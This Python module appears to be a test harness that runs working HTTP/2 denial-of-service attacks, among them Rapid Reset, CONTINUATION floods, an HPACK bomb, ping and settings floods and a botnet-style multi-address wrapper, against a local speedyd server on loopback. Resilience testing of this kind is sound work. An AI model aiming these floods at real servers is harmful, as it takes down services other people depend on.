"""h2attacks.py — HTTP/2 attacks on a running speedyd, seen from outside.

Each attack is attack(server, stop, stats), like attacks.py's SPDY ones: it speaks h2c
with prior knowledge (or h2 over TLS when stats["tls"] is set before it starts) from
127.0.0.2, hammers until the threading.Event stop is set, reconnects whenever the server
ends a connection, and counts in stats what the server answered:
  goaway_<CODE>      GOAWAY frames by error code (ENHANCE_YOUR_CALM, PROTOCOL_ERROR, ...)
  rst_<CODE>         RST_STREAM frames by error code
  responses          HEADERS frames (a :status of 103 counts as hints, not a response)
  closed_by_server   connections the server ended (EOF, reset or a refused write)
  goaway_s_max       the longest time from a connection's first byte to a GOAWAY
  answer_s_max       the same to the server's GOAWAY or close, whichever came first
                     (connections still open at the end do not count; a connection from
                     an address the flood meter refuses is held 5 s and closed)
Frames are built with hyperframe and field blocks with hpack (Debian's python3-h2
brings both); an attack that needs bytes no encoder would write (an HPACK bomb, a
field block split one octet per CONTINUATION) writes them by hand from RFC 7541.
These modules load only under /usr/bin/python3 (see ../shared/peers.md).
"""
import socket
import ssl
import struct
import time

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

import attacklib as A

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
          "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL",
          "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY",
          "HTTP_1_1_REQUIRED"]
CANCEL = 8
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
MAX_WINDOW = 0x7FFFFFFF


def error_name(code):
    return ERRORS[code] if code < len(ERRORS) else "0x%x" % code


def _count(stats, key, n=1):
    stats[key] = stats.get(key, 0) + n


def _note_answer(stats, started):
    took = time.monotonic() - started
    stats["answer_s_max"] = max(stats.get("answer_s_max", 0.0), round(took, 3))


class Reader:
    """Parses what the server sends on one connection and counts it into stats."""

    def __init__(self, stats, started):
        self.stats, self.started, self.buf, self.answered = stats, started, b"", False

    def feed(self, raw):
        self.buf += raw
        pos = 0
        while len(self.buf) - pos >= 9:
            length = int.from_bytes(self.buf[pos:pos + 3], "big")
            ftype, flags = self.buf[pos + 3], self.buf[pos + 4]
            if len(self.buf) - pos - 9 < length:
                break
            payload = self.buf[pos + 9:pos + 9 + length]
            pos += 9 + length
            self._frame(ftype, flags, payload)
        self.buf = self.buf[pos:]

    def _frame(self, ftype, flags, payload):
        if ftype == GOAWAY and len(payload) >= 8:
            _count(self.stats, "goaway_" + error_name(struct.unpack(">I", payload[4:8])[0]))
            took = round(time.monotonic() - self.started, 3)
            self.stats["goaway_s_max"] = max(self.stats.get("goaway_s_max", 0.0), took)
            self.closed()
        elif ftype == RST_STREAM and len(payload) == 4:
            _count(self.stats, "rst_" + error_name(struct.unpack(">I", payload)[0]))
        elif ftype == HEADERS:
            # A 103's block starts with :status 103 (not in the static table: a literal
            # whose value is "103") — HPACK-decoding every answer would cost the attacker
            # more than the server; count blocks, hints included.
            _count(self.stats, "responses")
        elif ftype == DATA:
            _count(self.stats, "data_bytes", len(payload))
        elif ftype == SETTINGS and flags & 1:
            _count(self.stats, "settings_acks")
        elif ftype == PING and flags & 1:
            _count(self.stats, "ping_acks")

    def closed(self):
        """The server's answer that ends the connection (GOAWAY or close), noted once."""
        if not self.answered:
            self.answered = True
            _note_answer(self.stats, self.started)


def connect(server, stats, settings=None, source=A.ATTACKER):
    """A connection with the preface and SETTINGS sent; TLS (ALPN h2) when stats["tls"]."""
    if stats.get("tls"):
        raw = A.attacker_socket(server.tls_port, source)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE  # the attacker does not care who answers
        context.set_alpn_protocols(["h2"])
        s = context.wrap_socket(raw, server_hostname="localhost")
        if s.selected_alpn_protocol() != "h2":
            s.close()
            raise OSError("ALPN did not choose h2")
    else:
        s = A.attacker_socket(server.port, source)
    f = SettingsFrame(0)
    f.settings = dict(settings or {})
    s.sendall(PREFACE + f.serialize())
    return s


def drain(s, max_bytes=1 << 22):
    """Reads what is there without waiting (TLS too); returns (bytes, closed)."""
    got = bytearray()
    s.setblocking(False)
    try:
        while len(got) < max_bytes:
            chunk = s.recv(65536)
            if not chunk:
                return bytes(got), True
            got += chunk
    except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
        pass
    except OSError:
        return bytes(got), True
    finally:
        s.setblocking(True)
    return bytes(got), False


def read_until_closed(s, reader, deadline_s):
    """Reads (counting frames) until the server closes or deadline_s; True if it closed."""
    end = time.monotonic() + deadline_s
    while time.monotonic() < end:
        s.settimeout(max(0.05, end - time.monotonic()))
        try:
            chunk = s.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            return True
        if not chunk:
            return True
        reader.feed(chunk)
    return False


# ---- frames ---------------------------------------------------------------------------


def request_block(encoder, path="/index.html", method="GET", extra=()):
    return encoder.encode([(":method", method), (":scheme", "http"), (":path", path),
                           (":authority", "127.0.0.1")] + list(extra))


def headers(stream_id, block, end_stream=True, end_headers=True):
    f = HeadersFrame(stream_id)
    f.data = block
    if end_stream:
        f.flags.add("END_STREAM")
    if end_headers:
        f.flags.add("END_HEADERS")
    return f.serialize()


def continuation(stream_id, fragment, end_headers=False):
    f = ContinuationFrame(stream_id)
    f.data = fragment
    if end_headers:
        f.flags.add("END_HEADERS")
    return f.serialize()


def data(stream_id, payload=b"", end_stream=False):
    f = DataFrame(stream_id)
    f.data = payload
    if end_stream:
        f.flags.add("END_STREAM")
    return f.serialize()


def rst(stream_id, code=CANCEL):
    return RstStreamFrame(stream_id, error_code=code).serialize()


def window_update(stream_id, delta):
    f = WindowUpdateFrame(stream_id)
    f.window_increment = delta
    return f.serialize()


def ping(n):
    return PingFrame(0, opaque_data=struct.pack(">Q", n)).serialize()


def settings(entries):
    f = SettingsFrame(0)
    f.settings = dict(entries)
    return f.serialize()


def next_id(state):
    """The next client stream id (odd, increasing)."""
    sid = state["next_id"]
    state["next_id"] += 2
    return sid


def next_stream(state, path="/index.html", end_stream=True, method="GET"):
    """HEADERS opening the next client stream; returns (stream id, frame). The frame must
    be sent: the encoder's dynamic table now assumes the server has seen it."""
    sid = next_id(state)
    return sid, headers(sid, request_block(state["encoder"], path, method), end_stream)


def hpack_integer(value, prefix_bits, first_byte_flags):
    """RFC 7541 5.1: an integer with an N-bit prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = bytearray([first_byte_flags | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal_indexed(name, value):
    """RFC 7541 6.2.1: a literal field with incremental indexing and a new name."""
    return (b"\x40" + hpack_integer(len(name), 7, 0) + name +
            hpack_integer(len(value), 7, 0) + value)


# ---- the attack loop ------------------------------------------------------------------


def _flood(server, stop, stats, make_batch, setup=None, read=True, settings_sent=None,
           max_batches=None, after_s=5.0):
    """Connects, optionally sets up, sends batches until the server hangs up; repeats.
    read=False sends max_batches without reading a byte (the answers pile up at the
    server), then reads to find how the server answered."""
    while not stop.is_set():
        started = time.monotonic()
        # stats["sources"] = N spreads the connections over 127.0.0.2 .. 127.0.0.N+1 (a
        # botnet, which the flood meter per address alone would not stop).
        source = "127.0.0.%d" % (2 + stats.get("connections", 0) % stats.get("sources", 1))
        try:
            s = connect(server, stats, settings_sent, source)
        except OSError:
            _count(stats, "connect_failed")
            time.sleep(0.05)
            continue
        _count(stats, "connections")
        reader = Reader(stats, started)
        state = {"encoder": Encoder(), "next_id": 1, "batches": 0}
        s.settimeout(2.0)
        try:
            if setup is not None and not A.send_all(s, setup(state)):
                _count(stats, "closed_by_server")
                reader.closed()
                continue
            closed = False
            while not stop.is_set() and not closed:
                if max_batches is not None and state["batches"] >= max_batches:
                    break
                state["batches"] += 1
                try:
                    s.sendall(make_batch(state))
                except socket.timeout:
                    _count(stats, "send_blocked")  # the server stopped reading us
                    break
                except OSError:
                    closed = True
                    break
                if read:
                    raw, closed = drain(s)
                    reader.feed(raw)
            if not stop.is_set() or not read:
                # The server closed, answered, stopped reading us, or the batches are
                # sent: read what it said until it closes (bounded).
                closed = read_until_closed(s, reader, after_s) or closed
            if closed:
                _count(stats, "closed_by_server")
                reader.closed()
        finally:
            s.close()


# ---- the attacks ----------------------------------------------------------------------


def rapid_reset(server, stop, stats):
    """CVE-2023-44487: HEADERS and RST_STREAM(CANCEL) at once, thousands of times."""
    def batch(state):
        out = []
        for _ in range(250):
            sid, frame = next_stream(state, "/index.html")
            out.append(frame + rst(sid))
        _count(stats, "streams_reset", 250)
        return b"".join(out)

    _flood(server, stop, stats, batch)


def made_you_reset(server, stop, stats):
    """MadeYouReset: frames that make the *server* reset a stream it is serving — a
    WINDOW_UPDATE pushing the stream window past 2^31-1 (FLOW_CONTROL_ERROR, 6.9.1) and
    DATA on a stream the client half-closed (STREAM_CLOSED, 5.1), over and over."""
    def batch(state):
        out = []
        for i in range(100):
            sid, frame = next_stream(state, "/big.bin")
            out.append(frame)
            if i % 2:
                out.append(window_update(sid, MAX_WINDOW))
            else:
                out.append(data(sid, b"x"))
        _count(stats, "streams_provoked", 100)
        return b"".join(out)

    _flood(server, stop, stats, batch)


def continuation_flood(server, stop, stats):
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end the block,
    each carrying a few valid literal fields (so the HPACK decoder keeps working)."""
    fragment = b"".join(hpack_literal_indexed(b"x-c%d" % i, b"v" * 200) for i in range(60))

    def setup(state):
        sid = state["sid"] = next_id(state)
        return headers(sid, request_block(state["encoder"]), end_headers=False)

    def batch(state):
        _count(stats, "continuations", 20)
        return continuation(state["sid"], fragment) * 20

    _flood(server, stop, stats, batch, setup)


def continuation_tiny(server, stop, stats):
    """The same with many small ones: a request's field block one octet per CONTINUATION,
    then empty CONTINUATIONs for ever."""
    def setup(state):
        sid = state["sid"] = next_id(state)
        block = request_block(state["encoder"])
        return headers(sid, block[:1], end_headers=False) + b"".join(
            continuation(sid, block[i:i + 1]) for i in range(1, len(block)))

    def batch(state):
        _count(stats, "continuations", 500)
        return continuation(state["sid"], b"") * 500

    _flood(server, stop, stats, batch, setup)


def hpack_bomb(server, stop, stats):
    """A 4,000-octet value put in the dynamic table once, then referenced by its index
    (one octet each) 16,000 times in one field block: 64 MB of fields from 16 KB."""
    big = hpack_literal_indexed(b"x-bomb", b"b" * 4000)
    refs = b"\xbe" * 16000  # 0x80 | 62: the newest dynamic entry (RFC 7541 2.3.3)

    def batch(state):
        sid = next_id(state)
        encoder = state["encoder"]
        block = request_block(encoder) + big + refs
        # The block in HEADERS plus CONTINUATIONs within the default 16 KB frame size.
        out = headers(sid, block[:16000], end_headers=False)
        rest = block[16000:]
        while len(rest) > 16000:
            out += continuation(sid, rest[:16000])
            rest = rest[16000:]
        _count(stats, "bombs")
        return out + continuation(sid, rest, end_headers=True)

    _flood(server, stop, stats, batch)


def settings_flood(server, stop, stats):
    """SETTINGS frames, thousands, never reading the ACKs the server owes."""
    frame = settings({3: 100, 4: 65535, 2: 0})  # MAX_CONCURRENT, INITIAL_WINDOW, PUSH

    def batch(state):
        _count(stats, "frames", 1000)
        return frame * 1000

    _flood(server, stop, stats, batch, read=False, max_batches=50)


def ping_flood(server, stop, stats):
    """PINGs, thousands, never reading the ACKs."""
    def batch(state):
        base = state["batches"] * 1000
        _count(stats, "frames", 1000)
        return b"".join(ping(base + i) for i in range(1000))

    _flood(server, stop, stats, batch, read=False, max_batches=50)


def empty_data_flood(server, stop, stats):
    """An upload whose DATA frames carry nothing and never end the stream."""
    def setup(state):
        sid, frame = next_stream(state, "/index.html", end_stream=False, method="POST")
        state["sid"] = sid
        return frame

    def batch(state):
        _count(stats, "frames", 1000)
        return data(state["sid"]) * 1000

    _flood(server, stop, stats, batch, setup)


def empty_headers_flood(server, stop, stats):
    """HEADERS frames with an empty field block on new streams, one after another."""
    def batch(state):
        out = []
        for _ in range(500):
            out.append(headers(next_id(state), b"", end_stream=False))
        _count(stats, "frames", 500)
        return b"".join(out)

    _flood(server, stop, stats, batch)


def from_many_addresses(attack, sources=50):
    """The attack, its connections spread over many loopback source addresses."""
    def run(server, stop, stats):
        stats["sources"] = sources
        attack(server, stop, stats)
    return run


def zero_window_reader(server, stop, stats):
    """Asks for 8 MiB files on every stream it may open with INITIAL_WINDOW_SIZE 0 and
    never opens a window: the server may send nothing and must hold little per stream.
    Ten such connections stay open (reading, so nothing piles up in the kernel) until the
    attack ends."""
    conns = []
    try:
        for _ in range(10):
            started = time.monotonic()
            try:
                s = connect(server, stats, {4: 0})  # SETTINGS_INITIAL_WINDOW_SIZE
            except OSError:
                _count(stats, "connect_failed")
                continue
            _count(stats, "connections")
            state = {"encoder": Encoder(), "next_id": 1}
            A.send_all(s, b"".join(next_stream(state, "/big.bin")[1] for _ in range(100)))
            _count(stats, "streams", 100)
            conns.append((s, Reader(stats, started)))
        while not stop.is_set():
            for s, reader in conns:
                raw, closed = drain(s)
                reader.feed(raw)
                if closed and not reader.answered:
                    _count(stats, "closed_by_server")
                    reader.closed()
            time.sleep(0.05)
        still = 0
        for s, reader in conns:
            raw, closed = drain(s)
            reader.feed(raw)
            still += 0 if (closed or reader.answered) else 1
        stats["still_open"] = still
    finally:
        for s, _ in conns:
            s.close()


def stream_id_exhaustion(server, stop, stats):
    """Jumps to the last stream id, 2^31-1, then tries to go on with a lower one."""
    def batch(state):
        encoder = state["encoder"]
        return (headers(0x7FFFFFFF, request_block(encoder)) +
                headers(5, request_block(encoder)))

    _flood(server, stop, stats, batch)


def even_stream_ids(server, stop, stats):
    """Opens streams with even ids, which are the server's (5.1.1: PROTOCOL_ERROR)."""
    def batch(state):
        return headers(2, request_block(state["encoder"]))

    _flood(server, stop, stats, batch)


def window_update_flood(server, stop, stats):
    """WINDOW_UPDATEs of one octet on the connection and on a stream being served."""
    def setup(state):
        sid, frame = next_stream(state, "/big.bin")
        state["sid"] = sid
        return frame

    def batch(state):
        _count(stats, "frames", 1000)
        return (window_update(0, 1) + window_update(state["sid"], 1)) * 500

    _flood(server, stop, stats, batch, setup)
